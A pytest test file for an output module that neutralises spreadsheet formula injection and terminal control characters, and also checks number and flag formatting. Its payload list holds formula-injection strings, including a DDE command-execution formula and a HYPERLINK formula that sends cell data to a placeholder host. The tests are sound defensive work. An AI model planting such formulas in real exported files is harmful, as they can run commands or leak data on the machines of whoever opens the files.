"""Words are written so that no spreadsheet runs them and no terminal obeys them; amounts are left alone."""

import re
import unicodedata
from decimal import Decimal

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from inspect_cli.amounts import AMOUNT
from inspect_cli.frames import Heading, Table
from inspect_cli.write.cells import ESCAPES, is_signed, on_one_line, texts

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test?"&A1,"ok")',
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    " =1+1",
    "\u3000=1",
    "\u00a0@x",
    "\ufeff=1",
    "\u200b=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
]
HARMLESS = ["E0011/2026-11/4", "1-2", "张伟", "a=b", "'quoted", "", "3月", "(−5)", "007", "1E5"]


def words(*cells: str | None) -> Table:
    frame = pl.DataFrame({"word": cells}, schema={"word": pl.String})
    return Table("words", "Words", "词", [Heading("word", "Word", "词")], frame)


def shown(cell: str, one_line: bool = False) -> str:
    return texts(words(cell), one_line=one_line)["word"][0] or ""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_run_gets_an_apostrophe(payload: str) -> None:
    assert shown(payload).startswith("'")


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_text_stays_as_it_is(cell: str) -> None:
    assert shown(cell) == cell


@given(st.text())
def test_no_text_begins_with_what_runs(cell: str) -> None:
    written = shown(cell)
    invisible = re.compile(r"^[\s\ufeff\u200b]*")
    first = unicodedata.normalize("NFKC", invisible.sub("", written))[:1]
    if written[:1] not in {"﹢", "⁺", "₊", "﹣", "﹦", "⁼", "₌", "﹫", "﬩", "⁻", "₋"}:
        assert first not in {"=", "+", "-", "@"}
    assert written[:1] not in {"\t", "\r", "\n"}


@given(st.text())
def test_no_control_character_but_the_line_break_is_left(cell: str) -> None:
    assert not any(char in ESCAPES for char in shown(cell))
    assert not any(unicodedata.category(char) == "Cc" for char in shown(cell).replace("\n", ""))
    assert "\n" not in shown(cell, one_line=True)


def test_control_characters_are_seen() -> None:
    assert shown("\x1b[31mred\x00\u202e") == r"\x1b[31mred\x00\u202e"
    assert shown("a\tb") == r"a\tb"


def test_windows_line_breaks_become_plain_ones() -> None:
    assert shown("one\r\ntwo") == "one\ntwo"


def test_a_word_in_a_column_of_numbers_is_guarded_too() -> None:
    table = words("=1")
    numbers = Table("n", "N", "数", [Heading("word", "W", "词", "points")], table.frame)
    assert texts(numbers)["word"].to_list() == ["'=1"]


def test_amounts_have_two_decimals_rounded_half_away_from_zero() -> None:
    cells = [Decimal("-5"), Decimal("1.005"), Decimal("-1.005"), Decimal("-0.001"), None]
    frame = pl.DataFrame({"points": cells}, schema={"points": AMOUNT})
    table = Table("p", "P", "分", [Heading("points", "P", "分", "points")], frame)
    assert texts(table)["points"].to_list() == ["-5.00", "1.01", "-1.01", "0.00", None]


def test_quantities_have_no_needless_zeros() -> None:
    frame = pl.DataFrame({"q": [Decimal("3"), Decimal("0.5")]}, schema={"q": AMOUNT})
    assert texts(Table("q", "Q", "量", [Heading("q", "Q", "量", "quantity")], frame))["q"].to_list() == ["3", "0.5"]


def test_balances_have_two_decimals() -> None:
    frame = pl.DataFrame({"b": [Decimal("97.5")]}, schema={"b": AMOUNT})
    assert texts(Table("b", "B", "余", [Heading("b", "B", "余", "balance")], frame))["b"].to_list() == ["97.50"]


@pytest.mark.parametrize(("lang", "said"), [("en", ["yes", "no", None]), ("zh", ["是", "否", None])])
def test_flags_are_words(lang: str, said: list[str | None]) -> None:
    table = Table("f", "F", "旗", [Heading("f", "F", "旗", "flag")], pl.DataFrame({"f": [True, False, None]}))
    assert texts(table, lang=lang)["f"].to_list() == said


@pytest.mark.parametrize("key", ["points", "deductions", "yuan"])
def test_what_is_gained_or_lost_is_signed(key: str) -> None:
    assert is_signed(Heading(key, "", "", "points"))


@pytest.mark.parametrize("key", ["base", "score", "score_mean", "raw", "balance"])
def test_levels_are_not_signed(key: str) -> None:
    assert not is_signed(Heading(key, "", "", "points"))


def test_titles_and_notes_are_one_safe_line() -> None:
    assert on_one_line("a\nb\x1b[0m") == r"a b\x1b[0m"
